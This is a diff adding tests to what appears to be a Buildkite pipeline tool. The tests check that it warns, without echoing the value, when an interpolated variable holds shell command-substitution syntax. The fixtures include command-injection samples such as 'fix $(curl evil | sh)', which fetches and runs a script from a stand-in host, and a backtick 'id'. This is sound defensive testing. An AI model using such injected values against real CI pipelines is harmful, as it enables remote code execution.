@@ -122,6 +122,54 @@ describe("interpolation", () => {
   });
 });
 
+describe("a value interpolated at upload that a shell would run", () => {
+  test.each([
+    ["$(", "fix $(curl evil | sh)"],
+    ["a backtick", "fix `id`"],
+  ])(
+    "holding %s warns, naming the variable, the places and the $$ escape, never the value",
+    (_name, message) => {
+      const dir = workdir(
+        [
+          "steps:",
+          "  - label: say",
+          '    command: echo "$BUILDKITE_MESSAGE" ${BUILDKITE_MESSAGE:0:3}; echo "$$BUILDKITE_MESSAGE"',
+          "  - label: safe",
+          "    command: echo $$SAFE $BUILDKITE_BRANCH",
+        ].join("\n"),
+      );
+      const r = run(dir, ["pipeline.yml", "--dry-run", "--message", message]);
+      expect(r.status).toBe(0);
+      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning:"));
+      expect(warnings).toEqual([
+        'warning: pipeline.yml: $BUILDKITE_MESSAGE is interpolated at upload into steps[0].command, and its value holds "$(" or a backtick, which a shell runs as a command; write $$BUILDKITE_MESSAGE to leave it to the job\'s shell as a value',
+      ]);
+      expect(r.stderr).not.toContain(message);
+    },
+  );
+
+  test("a dynamic upload warns in the uploading job's log; a plain value and $$ never warn", () => {
+    const dir = workdir(
+      [
+        "steps:",
+        "  - label: uploader",
+        "    env: { RISKY: 'a $(b)', PLAIN: 'a b' }",
+        "    command: |",
+        "      printf 'steps:\\n  - command: echo $$RISKY $$PLAIN $$$$RISKY\\n' | buildkite-agent pipeline upload",
+      ].join("\n"),
+    );
+    const json = join(dir, "r.json");
+    const r = run(dir, ["pipeline.yml", "--report-json", json]);
+    expect(r.stderr).not.toContain("warning:");
+    const jobs = (JSON.parse(readFileSync(json, "utf8")) as { jobs: { label: string; log: string }[] }).jobs;
+    const log = readFileSync(jobs.find((j) => j.label === "uploader")?.log as string, "utf8");
+    expect(log).toContain(
+      "buildkite-agent: warning: (stdin): $RISKY is interpolated at upload into steps[0].command",
+    );
+    expect(log).not.toContain("$PLAIN is interpolated");
+  });
+});
+
 test("matrix adjustments add combinations, skip and soft-fail existing ones", () => {
   const combos = matrixCombos({
     setup: { os: ["linux"], v: ["1", "2"] },
